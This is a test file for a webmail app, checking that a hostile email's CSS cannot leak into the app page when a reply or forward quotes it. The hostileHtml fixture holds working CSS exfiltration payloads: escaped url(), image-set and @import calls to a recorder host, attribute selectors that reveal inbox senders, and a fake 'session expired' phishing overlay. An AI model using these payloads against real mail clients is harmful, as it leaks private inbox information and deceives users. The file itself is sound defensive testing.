/**
 * issue 13 item 14: a message's CSS must never reach the app page. Replying
 * to or forwarding a hostile message puts its quoted HTML into the editor,
 * which lives in the app page itself; its `<style>` used `image-set()`,
 * `-webkit-image-set()`, a CSS-escaped `\75 rl(`, `@import` and attribute
 * selectors on the message list to make the browser contact a host of the
 * sender's choosing (and so learn which senders are in the inbox), and
 * restyled the app to show a fake "session expired" notice. In Chromium:
 * the recorder on 127.0.0.1 receives no connection at all, the app keeps its
 * own look, the quote keeps its text, the app's policy refuses remote
 * pictures outright, and pictures in the reading pane still work (inline
 * cid: PNG at once, remote ones after the user allows them).
 */
import { test, expect, describe, beforeAll, afterAll } from "bun:test";
import net from "node:net";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { CAROL, launchBrowser, login, request, smtpSend, startWebmailServer, waitFor } from "./helpers.ts";

let srv: Awaited<ReturnType<typeof startWebmailServer>>;
let browser: Awaited<ReturnType<typeof launchBrowser>>;
let page: Page;
let leak: net.Server;
let leakPort = 0;
/** First bytes of every connection the recorder got (a request line, or a TLS hello after Chromium upgraded http: to https:). */
const hits: string[] = [];
const artifacts = join(import.meta.dir, "..", ".artifacts");

// 1x1 red PNG
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==", "base64");

function hostileHtml(p: number): string {
  const u = (name: string) => `http://127.0.0.1:${p}/${name}`;
  return `<style>
@import url(${u("import.css")});
@import "${u("import2.css")}";
body { background: rgb(255, 0, 0) !important; }
.topbar::before { content: "Your session expired. Call +1 555 0100 to sign in again."; font-size: 40px; color: red; }
.row-from[title$="@attacker.test"] { background-image: image-set("${u("attr-leak")}" 1x) !important; }
.row-from[title^="mallory"] { background-image: -webkit-image-set(url(${u("attr-leak2")}) 1x) !important; }
.editor { background-image: \\75 rl(${u("escaped")}) !important; }
.toolbar { background: \\000075\\000072\\00006c(${u("escaped2")}) !important; }
.composer-head { background-image: image-set(url(${u("image-set")}) 1x, url(${u("image-set2")}) 2x) !important; }
.composer-foot { background-image: u\\72l(${u("escaped3")}); }
.field { background: url("${u("plain")}"); }
.pb-quote-head { background-image: url(${u("quote-head")}); }
</style>
<div class="topbar" style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:#fff;font-size:40px">Your session expired. Call +1 555 0100 to sign in again.</div>
<p id="app" class="row-from editor" style="background-image: image-set('${u("inline-attr")}' 1x); color: rgb(0, 0, 128)">Hello Carol, <b>bold words</b> stay in the quote.</p>
<table background="${u("table-bg")}"><tr><td style="border: 1px solid rgb(0, 128, 0); padding: 4px">cell</td></tr></table>`;
}

function mail(subject: string, from: string, html: string): string {
  return [`From: ${from}`, `To: ${CAROL.email}`, `Subject: ${subject}`, `Message-ID: <${subject.replace(/\W+/g, "-")}@attacker.test>`, `Date: ${new Date().toUTCString()}`, "MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", ...(Buffer.from(html).toString("base64").match(/.{1,76}/g) ?? []), ""].join("\r\n");
}

function inlinePngMail(): string {
  const b = "rel-boundary";
  return [
    `From: Friend <friend@example.org>`,
    `To: ${CAROL.email}`,
    `Subject: Inline picture`,
    `Message-ID: <inline-picture@example.org>`,
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    `Content-Type: multipart/related; boundary="${b}"`,
    "",
    `--${b}`,
    "Content-Type: text/html; charset=utf-8",
    "",
    `<p>Our logo:</p><img alt="logo" src="cid:logo@example.org">`,
    `--${b}`,
    "Content-Type: image/png",
    "Content-ID: <logo@example.org>",
    "Content-Transfer-Encoding: base64",
    "",
    PNG.toString("base64"),
    `--${b}--`,
    "",
  ].join("\r\n");
}

async function open(subject: string): Promise<void> {
  await page.locator(".row", { has: page.locator(".row-subject", { hasText: subject }) }).first().click();
  await page.locator(".msg-subject", { hasText: subject }).waitFor();
  await page.frameLocator(".msg-frame").locator("body").waitFor({ state: "attached" });
}

/** What the hostile CSS tried to change in the app page. */
function appLook(): Promise<Record<string, string>> {
  return page.evaluate(() => {
    const cs = (sel: string, pseudo?: string) => {
      const el = document.querySelector(sel);
      return el ? getComputedStyle(el, pseudo) : null;
    };
    const rowFrom = cs(".list-scroll .row .row-from");
    return {
      bodyBackground: getComputedStyle(document.body).backgroundColor,
      topbarBefore: cs(".topbar", "::before")?.content ?? "",
      rowFromImage: rowFrom?.backgroundImage ?? "",
      editorImage: cs(".composer .editor-wrap > .editor")?.backgroundImage ?? "none",
      toolbarImage: cs(".composer > .toolbar")?.backgroundImage ?? "none",
      headImage: cs(".composer > .composer-head")?.backgroundImage ?? "none",
      footImage: cs(".composer > .composer-foot")?.backgroundImage ?? "none",
    };
  });
}

beforeAll(async () => {
  leak = net.createServer((s) => {
    s.once("data", (d: Buffer) => hits.push(d.subarray(0, 80).toString("latin1").split("\r\n")[0]!));
    s.on("error", () => {});
    s.setTimeout(2000, () => s.destroy());
  });
  await new Promise<void>((r) => leak.listen(0, "127.0.0.1", r));
  leakPort = (leak.address() as net.AddressInfo).port;
  srv = await startWebmailServer();
  await smtpSend(srv.port("SMTP"), "mallory@attacker.test", [CAROL.email], mail("Quarterly report", "Mallory <mallory@attacker.test>", hostileHtml(leakPort)));
  await smtpSend(srv.port("SMTP"), "friend@example.org", [CAROL.email], inlinePngMail());
  browser = await launchBrowser();
  page = browser.page;
  await login(page, srv.base, CAROL);
  mkdirSync(artifacts, { recursive: true });
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await srv?.close();
  await new Promise((r) => leak?.close(r));
});

describe("mail CSS stays out of the app page", () => {
  test("the app page's own policy refuses remote pictures (only self, data: and blob:)", async () => {
    const shell = await page.evaluate(async () => (await fetch("/", { credentials: "same-origin" })).headers.get("content-security-policy"));
    const img = /(?:^|;\s*)img-src ([^;]*)/.exec(shell ?? "")?.[1] ?? "";
    expect(img.split(/\s+/).sort()).toEqual(["'self'", "blob:", "data:"]);
    // Even script of the app itself cannot load one.
    const loaded = await page.evaluate(
      (u) =>
        new Promise<boolean>((resolve) => {
          const i = new Image();
          i.onload = () => resolve(true);
          i.onerror = () => resolve(false);
          i.src = u;
        }),
      `http://127.0.0.1:${leakPort}/direct.png`,
    );
    expect(loaded).toBe(false);
    await page.waitForTimeout(300);
    expect(hits).toEqual([]);
  }, 30_000);

  for (const mode of ["reply", "forward"] as const) {
    test(`${mode}: the quote keeps its text but none of the message's CSS reaches the app`, async () => {
      const before = await appLook();
      await open("Quarterly report");
      await page.click(`.msg-actions [data-action="${mode}"]`);
      const editor = page.locator(".composer .editor-wrap > .editor");
      await editor.waitFor();
      await expect(editor.textContent()).resolves.toContain("bold words stay in the quote");
      // Give every load the hostile CSS could start its chance.
      await page.waitForTimeout(800);
      if (mode === "reply") await page.screenshot({ path: join(artifacts, "isolation-reply.png") });
      expect(hits).toEqual([]);
      const after = await appLook();
      expect(after.bodyBackground).toBe(before.bodyBackground);
      expect(after.topbarBefore).toBe(before.topbarBefore);
      expect(after.rowFromImage).toBe("none");
      for (const k of ["editorImage", "toolbarImage", "headImage", "footImage"] as const) expect(after[k]).toBe("none");
      const inApp = await page.evaluate(() => {
        const ed = document.querySelector(".composer .editor-wrap > .editor")!;
        const fake = Array.from(ed.querySelectorAll("div")).find((d) => d.textContent?.includes("session expired"));
        const box = ed.getBoundingClientRect();
        const fb = fake?.getBoundingClientRect();
        return {
          // No style sheet of the message anywhere in the app document.
          styles: document.querySelectorAll("body style").length,
          // Nothing in the quote can match or clobber the app's own classes and ids.
          classes: Array.from(ed.querySelectorAll("[class]")).map((e) => e.getAttribute("class")).filter((c) => !/^pb-(quote-head|fwd-head|signature)$/.test(c ?? "")),
          ids: ed.querySelectorAll("[id]").length,
          appDivs: document.querySelectorAll("#app").length,
          fakePosition: fake ? getComputedStyle(fake).position : "gone",
          fakeInside: !fb || (fb.top >= box.top - 1 && fb.left >= box.left - 1 && fb.right <= box.right + 1),
          // Harmless formatting survives.
          boldKept: ed.querySelector("b")?.textContent ?? "",
          colourKept: Array.from(ed.querySelectorAll("p")).some((p) => getComputedStyle(p).color === "rgb(0, 0, 128)"),
        };
      });
      expect(inApp.styles).toBe(0);
      expect(inApp.classes).toEqual([]);
      expect(inApp.ids).toBe(0);
      expect(inApp.appDivs).toBe(1);
      expect(inApp.fakePosition).not.toBe("fixed");
      expect(inApp.fakeInside).toBe(true);
      expect(inApp.boldKept).toBe("bold words");
      expect(inApp.colourKept).toBe(true);
      await page.click('.composer [data-action="discard"]');
      await page.locator(".composer-wrap").waitFor({ state: "hidden" });
      expect(hits).toEqual([]);
    }, 60_000);
  }

  test("reading pane: an inline cid: PNG shows at once; the hostile message's remote CSS loads only after allowing, inside its frame", async () => {
    await open("Inline picture");
    const src = await page.frameLocator(".msg-frame").locator('img[alt="logo"]').getAttribute("src");
    expect(src).toStartWith("data:image/png;base64,");
    const natural = await page.frameLocator(".msg-frame").locator('img[alt="logo"]').evaluate((i) => (i as HTMLImageElement).naturalWidth);
    expect(natural).toBe(1);
    // The hostile message: nothing before allowing (its frame's policy and the sanitizer both hold it back)...
    await open("Quarterly report");
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    const historyBefore = await page.evaluate(() => history.length);
    // The sanitizer itself held every remote reference back, however spelled (image-set strings, escapes,
    // @import, the table background), and counted them for the banner.
    const held = await page.frameLocator(".msg-frame").locator("body").evaluate(() => Array.from(document.querySelectorAll("style, [style], [background]"), (e) => e.outerHTML).join("\n"));
    expect(held).not.toContain(String(leakPort));
    expect(held).toContain('[title$="@attacker.test"]');
    await expect(page.locator(".banner", { hasText: "Pictures from the internet are hidden" }).count()).resolves.toBe(1);
    await page.locator('.banner [data-action="show-images"]').click();
    // ...and once allowed, its own remote pictures load from its frame, which the app's policy no longer covers.
    await waitFor(async () => hits.some((h) => h.includes("/table-bg")), "the message's remote picture after allowing");
    // That frame is the server's answer under its own policy, still a sandbox without scripts.
    const frame = page.frames().find((f) => f !== page.mainFrame() && f.url().endsWith("/mailframe"));
    expect(frame).toBeDefined();
    expect(await page.locator(".msg-frame").getAttribute("sandbox")).toBe("allow-popups allow-popups-to-escape-sandbox");
    expect(await frame!.evaluate(() => document.querySelector("p")?.textContent ?? "")).toContain("bold words");
    // Allowing added no entry to the tab's history (the frame's first navigation replaces about:blank).
    expect(await page.evaluate(() => history.length)).toBe(historyBefore);
    // The app page itself still shows none of it.
    const look = await appLook();
    expect(look.rowFromImage).toBe("none");
    expect(look.topbarBefore).not.toContain("session expired");
  }, 60_000);

  test("the frame endpoint answers only this session's own page", async () => {
    const res = await request("POST", srv.base + "/mailframe", { headers: { "content-type": "application/x-www-form-urlencoded", origin: srv.base }, body: "html=%3Cp%3Ehi&remote=1" });
    expect(res.status).toBe(401);
  }, 30_000);
});
